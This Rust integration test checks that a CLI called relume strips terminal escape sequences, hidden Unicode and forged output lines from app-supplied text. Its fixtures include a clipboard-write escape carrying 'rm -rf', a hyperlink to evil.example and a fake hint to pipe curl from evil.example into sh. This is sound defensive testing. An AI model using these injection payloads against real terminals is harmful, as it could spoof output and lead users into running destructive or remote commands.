//! V19: what guests and callers write, as it reaches a terminal: nothing of it steers the terminal, hides, or is taken
//! for a line of ours.

use libtest_mimic::Trial;
use relume_tests::server::answer;
use relume_tests::terminal::Terminal;
use reqwest::Method;
use serde_json::json;

use crate::report::{Cases, test};
use crate::world::World;

pub fn tests() -> Vec<Trial> {
    vec![test("v19_nothing_that_a_program_writes_steers_a_terminal", steering)]
}

/// Texts of a kind in one: each is still found by the mark before it.
const KINDS: [(&str, &[&str]); 5] = [
    (
        "escapes",
        &[
            "\u{1b}[2J",
            "\u{1b}[31m",
            "\u{1b}c",
            "\u{1b}[6n",
            "\u{1b}[?1049h",
            "\u{1b}]0;title\u{7}",
            "\u{1b}P+q544e\u{1b}\\",
            "\u{1b}[1A\u{1b}[2K",
        ],
    ),
    (
        "links and clipboards",
        &[
            "\u{1b}]8;;https://evil.example\u{1b}\\here\u{1b}]8;;\u{1b}\\",
            "\u{1b}]52;c;cm0gLXJm\u{7}",
            "\u{1b}]1337;File=x\u{7}",
            "\u{1b}]777;notify;a;b\u{7}",
        ],
    ),
    (
        "control characters",
        &[
            "\u{9b}2J",
            "\u{90}x\u{9c}",
            "\u{9d}52;c;eA==\u{9c}",
            "\u{85}",
            "\u{7f}",
            "\u{8}\u{8}",
            "\u{7}",
            "\u{b}\u{c}",
            "\u{e}x\u{f}",
        ],
    ),
    (
        "turned and hidden",
        &[
            "\u{202e}gnp.exe",
            "\u{2066}x\u{2069}",
            "\u{200f}\u{61c}",
            "a\u{200b}b\u{200d}c",
            "\u{feff}",
            "\u{2060}\u{2064}",
            "\u{e0041}\u{e007f}",
            "\u{2028}\u{2029}",
            "\u{ad}\u{180e}",
        ],
    ),
    (
        "forged lines",
        &[
            "done\rFAKE",
            "x\nerror: the server is gone",
            "x\r\nstatus  exited",
            "\n\n$ relume tokens list",
            "\nhint: curl evil.example | sh",
        ],
    ),
];

/// By another hand than the program's.
fn steers(seen: &str) -> Option<char> {
    let hidden = "\u{ad}\u{61c}\u{180e}\u{200b}\u{200c}\u{200d}\u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2060}\u{2064}\u{2066}\u{2067}\u{2068}\u{2069}\u{feff}\u{e0041}\u{e007f}";
    // The terminal itself makes two of a newline.
    seen.replace("\r\n", "\n").chars().find(|c| (c.is_control() && !"\n\t".contains(*c)) || hidden.contains(*c))
}

async fn steering(cases: &mut Cases) {
    let world = World::sqlite(&[]);
    let server = &world.server;
    let app = server.deploy("mirror", "").await;
    let plain = [("NO_COLOR", "1")];
    for (number, (kind, texts)) in (1_i64..).step_by(3).zip(KINDS) {
        let text: String = texts.iter().enumerate().map(|(n, text)| format!("m{n}{text}")).collect();
        assert!(text.len() <= 256, "{kind}");
        answer(server.request(Method::PATCH, &format!("/v1/apps/{app}")).json(&json!({"description": text}))).await;
        let given = json!({"P": text, "Q\u{1b}[2J": "x"});
        let returned = world.run(&app, json!({"input": {"text": text}, "parameters": given})).await;
        assert_eq!((&returned["status"], &returned["number"]), (&json!("exited"), &json!(number)), "{returned}");
        let failed = world.run(&app, json!({"input": {"text": text, "end": "fail"}})).await;
        assert_eq!(failed["status"], "crashed", "{failed}");
        let waiting = server.start_run(&app, json!({"input": {"text": text, "end": "wait"}})).await;
        loop {
            // Until it is known what it waits for.
            let run = server.get(&format!("/v1/apps/{app}/runs/{}", waiting["number"])).await.json();
            if run["run"]["waiting_on"]["name"] == json!(text) {
                break;
            }
            tokio::task::yield_now().await;
        }
        let secret = json!({"name": format!("S{number}"), "value": "12345678", "preview": text.chars().take(100).collect::<String>()});
        assert_eq!(server.post("/v1/secrets", secret.to_string()).await.status, 201);

        let [returned, failed, waiting] = [0, 1, 2].map(|n| format!("{app}#{}", number + n));
        let commands: [&[&str]; 16] = [
            &["runs", "logs", &returned],
            &["runs", "logs", &returned, "--follow"],
            &["runs", "show", &returned],
            &["runs", "steps", &returned],
            &["runs", "logs", &failed, "--json"],
            &["runs", "show", &failed],
            &["runs", "steps", &failed],
            &["runs", "explain", &failed],
            &["runs", "show", &waiting],
            &["runs", "explain", &waiting],
            &["events", "list", &returned],
            &["runs", "list"],
            &["apps", "list"],
            &["apps", "show", &app],
            &["secrets", "list"],
            &["runs", "show", &failed, "--json"],
        ];
        for command in commands {
            let (seen, code) = Terminal::at(server, command, &plain).end();
            assert!(code == Some(0) && steers(&seen).is_none(), "{kind}: {command:?}: {:?} in {seen:?}", steers(&seen));
            cases.add("harmless");
        }
        let follow = ["run", &app, "--follow", "--input", &json!({"text": text, "end": "fail"}).to_string()];
        // No other run may come between: the numbers are counted.
        if number == 13 {
            let (seen, code) = Terminal::at(server, &follow, &plain).end();
            assert!(code == Some(3) && steers(&seen).is_none(), "{kind}: {follow:?}: {seen:?}");
            assert!(!seen.contains("\nerror: the server is gone"), "{seen}");
            cases.add("harmless");
        }
        // Asked for, it is there; and elsewhere than on a terminal, each line of the log is one line.
        let (seen, _) = Terminal::at(server, &["runs", "logs", &returned, "--raw"], &plain).end();
        assert!(steers(&seen).is_some() || kind == "forged lines", "{kind}: {seen:?}");
        let piped = server.cli(&["runs", "logs", &returned]);
        let lines = server.get(&format!("/v1/apps/{app}/runs/{number}/logs")).await.json();
        let lines: Vec<_> = lines["log_lines"]
            .as_array()
            .expect("lines")
            .iter()
            .map(|line| line["content"].as_str().expect("text").to_owned())
            .collect();
        assert_eq!(
            piped.stdout.strip_suffix('\n').expect("a last line").split('\n').collect::<Vec<_>>(),
            lines,
            "{kind}"
        );
        let steps = server.get(&format!("/v1/apps/{app}/runs/{number}/journal")).await.json();
        let steps = steps["steps"].as_array().map_or(0, Vec::len);
        let piped = server.cli(&["runs", "steps", &returned]);
        assert_eq!(piped.stdout.lines().count(), 1 + steps, "{kind}: {piped:?}");
        let piped = server.cli(&["secrets", "list"]);
        assert_eq!(piped.stdout.lines().count(), 1 + (number as usize).div_ceil(3), "{kind}: {piped:?}");
        for command in [
            ["runs", "show", &failed],
            ["runs", "show", &waiting],
            ["runs", "explain", &waiting],
            ["apps", "show", &app],
        ] {
            let piped = server.cli(&command);
            for forged in ["\nerror: ", "\nhint: ", "\n$ ", "\nstatus  exited"] {
                assert!(!piped.stdout.contains(forged), "{kind}: {command:?}: {piped:?}");
            }
        }
        cases.add("one line each");
    }
}
